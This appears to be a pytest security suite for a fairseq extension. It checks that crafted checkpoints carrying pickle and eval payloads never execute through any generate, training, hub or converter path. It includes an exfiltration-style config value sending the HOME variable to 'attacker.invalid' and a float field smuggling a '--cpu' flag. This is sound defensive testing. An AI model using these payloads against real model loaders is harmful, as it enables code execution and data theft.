"""No code runs from a checkpoint, whatever path loads it: crafted checkpoints (pickle payloads
in zip and legacy files, in ``cfg`` and ``args``, with TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD set;
data-only payloads in a field fairseq eval()s, in ``cfg`` and in legacy ``args``) through
fairseq-generate, fairseq-interactive, fairseq-train --restore-file / resume / --finetune-from-
model / --ema-seed-model, both hubs, load_model_ensemble*, and every converter and export. The
payload never runs and the error names the file; a good checkpoint loads on every path."""

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import torch

from crafted import as_legacy, eval_payload, place_in_cfg, place_pickle, popen_payload, save, system_payload
from fairseq_ext.compat.checkpoint import NO_WEIGHTS_ONLY_VARIABLE, CheckpointError
from harness import USER_DIR, generate, interactive, train, training_args

ARCH = "bart_summ_tiny"
SHORT_TRAIN = ["--max-tokens", "600", "--disable-validation", "--no-save"]


@pytest.fixture(scope="module")
def data(aclsum_bin):
    return aclsum_bin


@pytest.fixture(scope="module")
def good(bart_tiny_checkpoint):
    """A checkpoint of one update of ``bart_summ_tiny`` (fairseq-train's own file, with EMA
    weights so that it can also seed ``--ema-seed-model``; tests/conftest.py)."""
    return bart_tiny_checkpoint


@pytest.fixture(scope="module")
def good_state(good):
    return torch.load(good, weights_only=True)


@pytest.fixture(scope="module")
def legacy_good(good_state, data, tmp_path_factory):
    """The same checkpoint as fairseq < 0.10 wrote it: flat ``args``, no ``cfg``."""
    args = training_args(data, "unused", ARCH)
    return save(as_legacy(good_state, args), tmp_path_factory.mktemp("legacy") / "checkpoint_legacy.pt", False)


# ---------------------------------------------------------------- the user paths
def _hub(path, data):
    from user_dir import from_pretrained

    hub = from_pretrained(str(path.parent), checkpoint_file=path.name, data_name_or_path=str(data))
    return hub.summarize(["we parse text with a small model ."], beam=1, max_len_b=4)


def _fairseq_hub(path, data):
    from fairseq import hub_utils

    loaded = hub_utils.from_pretrained(str(path.parent), checkpoint_file=path.name,
                                       data_name_or_path=str(data), user_dir=USER_DIR)
    return loaded["models"]


def _load_model_ensemble(path, data):
    from fairseq import checkpoint_utils

    return checkpoint_utils.load_model_ensemble([str(path)], arg_overrides={"data": str(data)})[0]


def _load_model_ensemble_and_task(path, data):
    from fairseq import checkpoint_utils

    return checkpoint_utils.load_model_ensemble_and_task([str(path)], arg_overrides={"data": str(data)})[0]


def _generate(path, data):
    return generate(data, path, ["--max-len-b", "4", "--beam", "1"])


def _interactive(path, data):
    spm = ["--bpe", "sentencepiece", "--sentencepiece-model", data / "spm.model"]
    return interactive(data, path, ["we parse text ."], ["--max-len-b", "4", "--beam", "1", *spm])


def _train_restore(path, data):
    return train(data, path.parent / "run", ARCH, SHORT_TRAIN + ["--restore-file", path, "--max-update", "2"])


def _resume(path, data):
    save_dir = path.parent / "resume"
    save_dir.mkdir(exist_ok=True)
    shutil.copy(path, save_dir / "checkpoint_last.pt")
    return train(data, save_dir, ARCH, SHORT_TRAIN + ["--max-update", "2"])


def _finetune(path, data):
    finetune = ["--finetune-from-model", path]
    return train(data, path.parent / "finetune", ARCH, [*SHORT_TRAIN, *finetune, "--max-update", "1"])


def _ema_seed(path, data):
    ema = ["--store-ema", "--ema-seed-model", path]
    return train(data, path.parent / "ema", ARCH, [*SHORT_TRAIN, *ema, "--max-update", "1"])


def _bart_ls_convert(path, data):
    from fairseq_ext.cli.convert import main

    return main(["bart_ls", "--bart", str(path), "--dict", str(data / "dict.source.txt"),
                 "--out", str(path.parent / "ls"), "--arch", "bart_ls_tiny", "--max-source-positions", "512",
                 "--num-sentinels", "4", "--block-size", "64", "--global-tokens", "4", "--pooling-layers", "1"])


def _zcodepp_export(path, data):
    from fairseq_ext.cli.zcodepp_export import main

    return main([str(path), str(path.parent / "exported.pt")])


def _hf_dir(path):
    """A Hugging Face folder whose weights are the crafted file."""
    hf = path.parent / "hf"
    hf.mkdir(exist_ok=True)
    (hf / "config.json").write_text(json.dumps({"model_type": "bert", "vocab_size": 10}))
    shutil.copy(path, hf / "pytorch_model.bin")
    return hf


def _prophetnet_convert(path, data):
    from fairseq_ext.cli.convert import main

    return main(["prophetnet", "--hf-dir", str(_hf_dir(path)), "--out", str(path.parent / "pn")])


def _s2s_ft_convert(path, data):
    from fairseq_ext.cli.convert import main

    return main(["s2s_ft", "--hf-dir", str(_hf_dir(path)), "--dict", str(data / "dict.source.txt"),
                 "--out", str(path.parent / "s2s")])


def _transformer_sm_convert(path, data):
    from fairseq_ext.cli.convert import main

    return main(["transformer_sm", "--hf-dir", str(_hf_dir(path)), "--out", str(path.parent / "sm")])


def _zcodepp_convert(path, data):
    from fairseq_ext.cli.convert import main

    return main(["zcodepp", "--hf-dir", str(_hf_dir(path)), "--out", str(path.parent / "zc")])


def _trains(fn):
    return pytest.param(fn, marks=pytest.mark.e2e, id=fn.__name__.lstrip("_"))


def _path(fn):
    return pytest.param(fn, id=fn.__name__.lstrip("_"))


MODEL_PATHS = [
    _path(_generate), _path(_interactive), _path(_hub), _path(_fairseq_hub), _path(_load_model_ensemble),
    _path(_load_model_ensemble_and_task),
    _trains(_train_restore), _trains(_resume), _trains(_finetune), _trains(_ema_seed),
]
CONVERTER_PATHS = [
    _path(_bart_ls_convert), _path(_zcodepp_export), _path(_prophetnet_convert), _path(_s2s_ft_convert),
    _path(_transformer_sm_convert), _path(_zcodepp_convert),
]


# ---------------------------------------------------------------- the crafted files
def _pickle_in_cfg(state, sentinel, data):
    return save(place_pickle(state, "cfg", system_payload(sentinel)), sentinel.parent / "evil.pt")


def _pickle_in_args_legacy_format(state, sentinel, data):
    return save(place_pickle(state, "args", popen_payload(sentinel)), sentinel.parent / "evil.pt", zip_format=False)


def _eval_field_in_cfg(state, sentinel, data):
    state = place_in_cfg(state, "model", "adaptive_softmax_cutoff", eval_payload(sentinel))
    return save(state, sentinel.parent / "evil.pt")


def _eval_field_in_legacy_args(state, sentinel, data):
    """A legacy ``args`` checkpoint of fairseq's ``fconv``, which eval()s ``decoder_layers``."""
    args = training_args(data, "unused", "fconv")
    return save(as_legacy(state, args, decoder_layers=eval_payload(sentinel)), sentinel.parent / "evil.pt", False)


def _interpolated_model_name(state, sentinel, data):
    """Issue #22: an interpolation picks fconv (which eval()s decoder_layers) after any check."""
    state = place_in_cfg(state, "task", "picked", "fconv")
    state = place_in_cfg(state, "model", "decoder_layers", eval_payload(sentinel))
    return save(place_in_cfg(state, "model", "_name", "${task.picked}"), sentinel.parent / "evil.pt")


def _env_to_url(state, sentinel, data):
    state = place_in_cfg(state, "bpe", "sentencepiece_model", "https://attacker.invalid/${oc.env:HOME}")
    return save(place_in_cfg(state, "bpe", "_name", "sentencepiece"), sentinel.parent / "evil.pt")


def _string_in_a_float(state, sentinel, data):
    return save(place_in_cfg(state, "model", "dropout", "0.1 --cpu"), sentinel.parent / "evil.pt")


CRAFTED = {
    "interpolated-model-name": (_interpolated_model_name, False),
    "env-variable-to-url": (_env_to_url, False),
    "string-in-a-float": (_string_in_a_float, False),
    "pickle-in-cfg": (_pickle_in_cfg, False),
    "pickle-in-cfg-env-var": (_pickle_in_cfg, True),
    "pickle-in-args-legacy-format-env-var": (_pickle_in_args_legacy_format, True),
    "eval-field-in-cfg": (_eval_field_in_cfg, False),
    "eval-field-in-legacy-args": (_eval_field_in_legacy_args, False),
}


@pytest.mark.parametrize("crafted", CRAFTED)
@pytest.mark.parametrize("load", MODEL_PATHS + CONVERTER_PATHS)
def test_crafted_checkpoint_never_runs_on_any_path(load, crafted, good_state, data, tmp_path, monkeypatch):
    make, variable = CRAFTED[crafted]
    if variable:
        monkeypatch.setenv(NO_WEIGHTS_ONLY_VARIABLE, "1")
    sentinel = tmp_path / "pwned"
    path = make(good_state, sentinel, data)
    with pytest.raises(CheckpointError) as err:
        load(path, data)
    assert _names_the_file(str(err.value), path)
    assert "weights_only=False" not in str(err.value)
    assert not sentinel.exists(), "the payload ran"


def _names_the_file(message, path):
    """Whether ``message`` names ``path`` or the copy of it that the path read (resume reads
    ``checkpoint_last.pt``, the HF converters ``pytorch_model.bin``)."""
    named = [Path(m) for m in re.findall(r"/[^\s:()]+", message)]
    return any(n.is_file() and n.read_bytes() == path.read_bytes() for n in named)


@pytest.mark.parametrize("load", MODEL_PATHS)
def test_good_checkpoint_loads_on_every_path(load, good, data, tmp_path):
    path = Path(shutil.copy(good, tmp_path / "checkpoint_good.pt"))
    result = load(path, data)
    assert result  # hypotheses, models, or the save dir of the run


@pytest.mark.parametrize("load", [_path(_generate), _path(_hub), _path(_load_model_ensemble_and_task)])
def test_good_legacy_args_checkpoint_loads(load, legacy_good, data):
    assert load(legacy_good, data)


def test_bart_ls_converter_still_converts_a_good_checkpoint(good, data, tmp_path):
    _bart_ls_convert(Path(shutil.copy(good, tmp_path / "bart.pt")), data)
    converted = torch.load(tmp_path / "ls" / "model.pt", weights_only=True)
    assert converted["model"]["encoder.embed_positions.weight"].size(0) > 512


@pytest.mark.e2e
def test_fairseq_generate_command_refuses_with_the_variable_set(good_state, data, tmp_path):
    """The report's reproduction, as a user types it: the console script, the variable set."""
    sentinel = tmp_path / "pwned"
    path = _pickle_in_cfg(good_state, sentinel, data)
    env = {**os.environ, NO_WEIGHTS_ONLY_VARIABLE: "1"}
    command = [str(Path(sys.executable).parent / "fairseq-generate"), str(data), "--user-dir", USER_DIR,
               "--task", "abstractive_summarization", "--path", str(path), "--max-len-b", "4"]
    run = subprocess.run(command, env=env, capture_output=True, text=True, timeout=300)
    assert run.returncode != 0
    assert "UntrustedCheckpointError" in run.stderr and _names_the_file(run.stderr, path)
    assert "ignored for checkpoint loading" in run.stderr
    assert not sentinel.exists(), "the payload ran"
